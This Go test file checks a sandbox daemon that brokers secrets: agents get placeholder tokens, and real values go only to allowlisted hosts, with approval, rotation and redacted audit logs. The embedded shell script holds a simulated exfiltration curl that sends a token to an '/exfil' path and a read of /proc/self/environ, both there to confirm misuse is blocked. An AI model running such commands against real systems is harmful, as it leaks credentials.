package daemon

import (
	"bytes"
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/json"
	"encoding/pem"
	"errors"
	"fmt"
	"io"
	"math/big"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/ironclaw/ironclaw/internal/client"
	"github.com/ironclaw/ironclaw/internal/daemontest"
	"github.com/ironclaw/ironclaw/internal/secrets"
)

// tlsUpstream is a loopback HTTPS server with a certificate for names,
// signed by a CA of the test's own (written to caFile, for the daemon's
// --egress-trust-ca). It answers "auth=<the Authorization it saw>" and
// keeps every Authorization it saw.
type tlsUpstream struct {
	port   string
	caFile string
	mu     sync.Mutex
	seen   []string
}

func (u *tlsUpstream) saw() []string {
	u.mu.Lock()
	defer u.mu.Unlock()
	return append([]string(nil), u.seen...)
}

func newTLSUpstream(t *testing.T, names ...string) *tlsUpstream {
	t.Helper()
	caKey, _ := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	caTmpl := &x509.Certificate{SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: "ironclaw test upstream CA"},
		NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(time.Hour), IsCA: true, BasicConstraintsValid: true,
		KeyUsage: x509.KeyUsageCertSign}
	caDER, err := x509.CreateCertificate(rand.Reader, caTmpl, caTmpl, &caKey.PublicKey, caKey)
	if err != nil {
		t.Fatal(err)
	}
	ca, _ := x509.ParseCertificate(caDER)
	leafKey, _ := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	leafTmpl := &x509.Certificate{SerialNumber: big.NewInt(2), Subject: pkix.Name{CommonName: names[0]}, DNSNames: names,
		NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(time.Hour), ExtKeyUsage: []x509.ExtKeyUsage{x509.ExtKeyUsageServerAuth},
		KeyUsage: x509.KeyUsageDigitalSignature}
	leafDER, err := x509.CreateCertificate(rand.Reader, leafTmpl, ca, &leafKey.PublicKey, caKey)
	if err != nil {
		t.Fatal(err)
	}
	u := &tlsUpstream{caFile: filepath.Join(t.TempDir(), "upstream-ca.pem")}
	if err := os.WriteFile(u.caFile, pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: caDER}), 0o644); err != nil {
		t.Fatal(err)
	}
	srv := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		a := r.Header.Get("Authorization")
		u.mu.Lock()
		u.seen = append(u.seen, a)
		u.mu.Unlock()
		io.WriteString(w, "auth="+a+"\n")
	}))
	srv.TLS = &tls.Config{Certificates: []tls.Certificate{{Certificate: [][]byte{leafDER}, PrivateKey: leafKey}}}
	srv.StartTLS()
	t.Cleanup(srv.Close)
	_, u.port, _ = net.SplitHostPort(srv.Listener.Addr().String())
	return u
}

// Issue 15 end to end, through a real daemon and real clients in a real
// sandbox: the upstream sees the value, the sandbox only its placeholder
// (environment, /proc/self/environ, which the seal masks anyway, the
// header echoed back); a placeholder sent to another
// allowlisted host is refused and audited; an ask grant holds the request
// until an operator approves; a rotation is in force at once.
func TestSecretsBrokeredEndToEnd(t *testing.T) {
	needPython(t)
	const (
		v1    = "ghp_FIRSTvalue_0000aaaa1111bbbb"
		v2    = "ghp_ROTATEDvalue_2222cccc3333dd"
		vNPM  = "npm_VALUE_4444eeee5555ffff666"
		vAsk  = "ask_VALUE_7777gggg8888hhhh999"
		vDeny = "deny_VALUE_000iiii111jjjj222k"
	)
	up := newTLSUpstream(t, "api.test", "other.test")
	var logMu sync.Mutex
	var logs strings.Builder
	r := startDaemon(t, t.TempDir(), func(c *Config) {
		c.Model.Provider = "mock"
		c.Egress.AllowPrivate = []string{"127.0.0.0/8"}
		c.Egress.Resolver = fakeDNS{"api.test": "127.0.0.1", "other.test": "127.0.0.1"}
		c.Egress.Allow = []string{"api.test:" + up.port, "other.test:" + up.port}
		c.Egress.DenyUnknown = true
		c.Egress.TrustCA = []string{up.caFile}
		c.Logf = func(f string, a ...any) {
			logMu.Lock()
			fmt.Fprintf(&logs, f+"\n", a...)
			logMu.Unlock()
		}
	})
	cl, op := r.client(t, false), r.client(t, true)
	ctx := context.Background()
	api := "api.test:" + up.port
	set := func(name, env, grant, v string, hosts ...string) {
		t.Helper()
		if _, err := op.SetSecret(ctx, name, client.SecretSettings{Hosts: hosts, Env: env, Grant: grant}, []byte(v)); err != nil {
			t.Fatalf("SetSecret(%s): %v", name, err)
		}
	}
	set("github", "GITHUB_TOKEN", "all", v1, api)
	set("npm", "NPM_TOKEN", "all", vNPM, "other.test:"+up.port)
	set("asked", "ASKED_TOKEN", "ask", vAsk, api)
	set("denied", "DENIED_TOKEN", "ask", vDeny, api)
	// An agent cannot set, list or remove secrets.
	if _, err := cl.ListSecrets(ctx); err == nil {
		t.Fatal("an agent token listed the secrets")
	}

	sb, err := cl.CreateSandbox(ctx, client.CreateRequest{Secrets: []string{"github", "npm"}})
	if err != nil {
		t.Fatal(err)
	}
	run := func(id, cmd string) string {
		t.Helper()
		var out bytes.Buffer
		res, err := cl.Exec(ctx, id, client.ExecRequest{Stdout: &out, Stderr: &out, Timeout: 2 * time.Minute, Cmd: cmd})
		if err != nil {
			t.Fatalf("exec: %v\n%s", err, out.String())
		}
		if res.Exit != 0 {
			t.Fatalf("exit %d:\n%s", res.Exit, out.String())
		}
		return out.String()
	}
	out := run(sb.ID, fmt.Sprintf(`
echo "env=$GITHUB_TOKEN"
env | grep '^GITHUB_TOKEN='
echo "environ=$(tr '\0' ' ' </proc/self/environ 2>&1)"
curl -sS https://%[1]s/curl -H "Authorization: Bearer $GITHUB_TOKEN"
/usr/bin/python3 - <<'EOF'
import os, urllib.request
req = urllib.request.Request("https://%[1]s/python", headers={"Authorization": "token " + os.environ["GITHUB_TOKEN"]})
print("python " + urllib.request.urlopen(req, timeout=60).read().decode().strip())
EOF
curl -sS -o /dev/null -w 'misuse=%%{http_code}\n' https://other.test:%[2]s/exfil -H "Authorization: Bearer $GITHUB_TOKEN"
curl -sS https://other.test:%[2]s/npm -H "Authorization: Bearer $NPM_TOKEN"
`, api, up.port))
	ph := ""
	for _, line := range strings.Split(out, "\n") {
		if v, ok := strings.CutPrefix(line, "env="); ok {
			ph = v
		}
	}
	if !strings.HasPrefix(ph, secrets.PlaceholderPrefix+"github-") {
		t.Fatalf("GITHUB_TOKEN inside = %q, want a placeholder:\n%s", ph, out)
	}
	for _, want := range []string{"GITHUB_TOKEN=" + ph, "auth=Bearer " + ph, "python auth=token " + ph, "misuse=403", "auth=Bearer "} {
		if !strings.Contains(out, want) {
			t.Errorf("sandbox output lacks %q:\n%s", want, out)
		}
	}
	for _, v := range []string{v1, vNPM} {
		if strings.Contains(out, v) {
			t.Fatalf("the sandbox saw a value:\n%s", out)
		}
	}
	seen := strings.Join(up.saw(), "\n")
	for _, want := range []string{"Bearer " + v1, "token " + v1, "Bearer " + vNPM} {
		if !strings.Contains(seen, want) {
			t.Errorf("the upstream did not see %q; it saw:\n%s", want, seen)
		}
	}
	if strings.Contains(seen, ph) {
		t.Errorf("the upstream saw the placeholder (an unswapped request went out):\n%s", seen)
	}

	// Rotation: in force for the running sandbox at once.
	set("github", "GITHUB_TOKEN", "all", v2, api)
	out = run(sb.ID, fmt.Sprintf(`curl -sS https://%s/rotated -H "Authorization: Bearer $GITHUB_TOKEN"`, api))
	if last := up.saw()[len(up.saw())-1]; last != "Bearer "+v2 || strings.Contains(out, v2) {
		t.Fatalf("after rotation the upstream saw %q; the sandbox: %s", last, out)
	}

	// grant ask: the request waits for the operator's decision.
	created, err := cl.CreateSandboxFiled(ctx, client.CreateRequest{Secrets: []string{"asked", "denied"}})
	if err != nil {
		t.Fatal(err)
	}
	sb2 := created.Sandbox
	if len(created.Approvals) != 2 || created.Approvals[0].Kind != "secret.use" || created.Approvals[1].Kind != "secret.use" {
		t.Fatalf("the create answers with approvals %+v, want its two secret.use requests", created.Approvals)
	}
	before := len(up.saw())
	done := make(chan string, 1)
	go func() {
		var o bytes.Buffer
		_, err := cl.Exec(ctx, sb2.ID, client.ExecRequest{Stdout: &o, Stderr: &o, Timeout: 2 * time.Minute,
			Cmd: fmt.Sprintf(`curl -sS https://%s/asked -H "Authorization: Bearer $ASKED_TOKEN"`, api)})
		if err != nil {
			o.WriteString(err.Error())
		}
		done <- o.String()
	}()
	var approvals []client.Approval
	for deadline := time.Now().Add(20 * time.Second); len(approvals) < 2 && time.Now().Before(deadline); time.Sleep(20 * time.Millisecond) {
		approvals, err = op.ListApprovals(ctx, client.ApprovalFilter{State: "pending", Session: sb2.ID, Kind: "secret.use"})
		if err != nil {
			t.Fatal(err)
		}
	}
	if len(approvals) != 2 {
		t.Fatalf("pending secret.use approvals: %+v", approvals)
	}
	var askID, denyID string
	for _, a := range approvals {
		switch {
		case strings.Contains(a.Summary, "asked"):
			askID = a.ID
		case strings.Contains(a.Summary, "denied"):
			denyID = a.ID
		}
		if strings.Contains(string(a.Data), vAsk) || strings.Contains(a.Summary, vAsk) {
			t.Fatal("an approval shows a value")
		}
	}
	select {
	case o := <-done:
		t.Fatalf("the request went through before the decision: %s", o)
	case <-time.After(300 * time.Millisecond):
	}
	if n := len(up.saw()); n != before {
		t.Fatalf("the upstream was reached before the decision")
	}
	if _, err := op.Approve(ctx, askID, "", ""); err != nil {
		t.Fatal(err)
	}
	select {
	case o := <-done:
		if !strings.Contains(o, "auth=Bearer "+secrets.PlaceholderPrefix+"asked-") || strings.Contains(o, vAsk) {
			t.Fatalf("after approval the sandbox got: %s", o)
		}
	case <-time.After(90 * time.Second):
		t.Fatal("the held request did not go through after approval")
	}
	if last := up.saw()[len(up.saw())-1]; last != "Bearer "+vAsk {
		t.Fatalf("after approval the upstream saw %q", last)
	}
	if _, err := op.Deny(ctx, denyID, "not for this sandbox"); err != nil {
		t.Fatal(err)
	}
	out = run(sb2.ID, fmt.Sprintf(`curl -sS -o /dev/null -w 'denied=%%{http_code}\n' https://%s/denied -H "Authorization: Bearer $DENIED_TOKEN"`, api))
	if !strings.Contains(out, "denied=403") {
		t.Fatalf("a denied grant: %s", out)
	}

	// The record: every change, grant, injection and misuse; no value
	// anywhere in the log, the daemon's log lines or the metrics.
	recs, err := op.AuditTail(ctx, 0, 100000)
	if err != nil {
		t.Fatal(err)
	}
	kinds := map[string]int{}
	for _, rec := range recs {
		kinds[rec.Kind]++
		raw, _ := json.Marshal(rec)
		for _, v := range []string{v1, v2, vNPM, vAsk, vDeny} {
			if bytes.Contains(raw, []byte(v)) {
				t.Errorf("audit record %d (%s) holds a value: %s", rec.Seq, rec.Kind, rec.Data)
			}
		}
		if rec.Kind == "secret.misuse" && (!bytes.Contains(rec.Data, []byte("github")) || rec.Session != sb.ID) {
			t.Errorf("secret.misuse record: %s", rec.Data)
		}
	}
	for k, n := range map[string]int{"secret.set": 5, "secret.grant": 4, "secret.inject": 5, "secret.misuse": 1} {
		if kinds[k] < n {
			t.Errorf("%d %s records, want at least %d (all: %v)", kinds[k], k, n, kinds)
		}
	}
	resp, err := http.Get("http://" + r.addr + "/metrics")
	if err != nil {
		t.Fatal(err)
	}
	metrics, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	logMu.Lock()
	logText := logs.String()
	logMu.Unlock()
	for _, v := range []string{v1, v2, vNPM, vAsk, vDeny} {
		if bytes.Contains(metrics, []byte(v)) || strings.Contains(logText, v) {
			t.Errorf("a value is in the metrics or the daemon's log")
		}
	}
	// At rest: sealed, not in the data dir in the clear.
	b, err := os.ReadFile(filepath.Join(r.dir, secrets.FileName))
	if err != nil {
		t.Fatal(err)
	}
	for _, v := range []string{v2, vNPM, vAsk} {
		if bytes.Contains(b, []byte(v)) {
			t.Fatal("a value is in the secrets file in the clear")
		}
	}
}

// The secrets key lives outside the data directory, like the audit key;
// the store survives a restart and refuses another key; policy secrets
// are read-only, read from the daemon's environment, and redacted from
// the audit log.
func TestHostileSecretsDaemonCustodyAndPolicy(t *testing.T) {
	root := t.TempDir()
	dir := filepath.Join(root, "data")
	key, cps := daemontest.Custody(dir)
	base := Config{Listen: "127.0.0.1:0", DataDir: dir, PoolSize: -1, AuditKeyFile: key, AuditCheckpointFile: cps}
	inside := base
	inside.SecretsKeyFile = filepath.Join(dir, "secrets.key")
	if err := Run(context.Background(), inside); err == nil || !strings.Contains(err.Error(), "inside the data directory") {
		t.Fatalf("a secrets key in the data dir: %v", err)
	}
	const value = "policy_VALUE_abcdefabcdef0123456789"
	pol := writePolicy(t, root, `secrets:
  - name: pol
    hosts: ["api.test"]
    value_env: IRONCLAW_TEST_POLICY_SECRET
    grant: all
`)
	missing := base
	missing.PolicyFile = pol
	if err := Run(context.Background(), missing); err == nil || !strings.Contains(err.Error(), "IRONCLAW_TEST_POLICY_SECRET") {
		t.Fatalf("a policy secret whose variable is unset: %v", err)
	}
	t.Setenv("IRONCLAW_TEST_POLICY_SECRET", value)

	r := startDaemon(t, dir, func(c *Config) { c.PolicyFile = pol; c.Model.Provider = "mock" })
	op := r.client(t, true)
	ctx := context.Background()
	list, err := op.ListSecrets(ctx)
	if err != nil || len(list) != 1 || list[0].Name != "pol" || list[0].Source != "policy" {
		t.Fatalf("ListSecrets = %+v, %v", list, err)
	}
	var ce *client.Error
	if _, err := op.SetSecret(ctx, "pol", client.SecretSettings{Hosts: []string{"a.test"}}, []byte("x")); !errors.As(err, &ce) || ce.Status != 409 {
		t.Fatalf("SetSecret(policy secret) = %v, want 409", err)
	}
	if err := op.RemoveSecret(ctx, "pol"); !errors.As(err, &ce) || ce.Status != 409 {
		t.Fatalf("RemoveSecret(policy secret) = %v, want 409", err)
	}
	const kept = "kept_VALUE_9876543210fedcba"
	if _, err := op.SetSecret(ctx, "kept", client.SecretSettings{Hosts: []string{"a.test"}}, []byte(kept)); err != nil {
		t.Fatal(err)
	}
	// Commands that spell the policy value and the API-set one: their
	// records are redacted.
	cl := r.client(t, false)
	sb, err := cl.CreateSandbox(ctx, client.CreateRequest{Secrets: []string{"pol"}})
	if err != nil {
		t.Fatal(err)
	}
	for _, v := range []string{value, kept} {
		if _, err := cl.Exec(ctx, sb.ID, client.ExecRequest{Cmd: "echo " + v + " >/dev/null"}); err != nil {
			t.Fatal(err)
		}
	}
	recs, err := op.AuditTail(ctx, 0, 10000)
	if err != nil {
		t.Fatal(err)
	}
	for _, rec := range recs {
		if bytes.Contains(rec.Data, []byte(value)) || bytes.Contains(rec.Data, []byte(kept)) {
			t.Fatalf("audit record %s holds a value: %s", rec.Kind, rec.Data)
		}
	}
	r.stop(t)

	// Restart: the API secret is there; under another key the start fails.
	r = startDaemon(t, dir, nil)
	list, err = r.client(t, true).ListSecrets(ctx)
	if err != nil || len(list) != 1 || list[0].Name != "kept" || list[0].Version != 1 {
		t.Fatalf("after restart: %+v, %v", list, err)
	}
	r.stop(t)
	other := base
	other.SecretsKeyFile = filepath.Join(root, "other", "secrets.key")
	if err := Run(context.Background(), other); err == nil || !strings.Contains(err.Error(), "sealed with key") {
		t.Fatalf("another key: %v", err)
	}
}
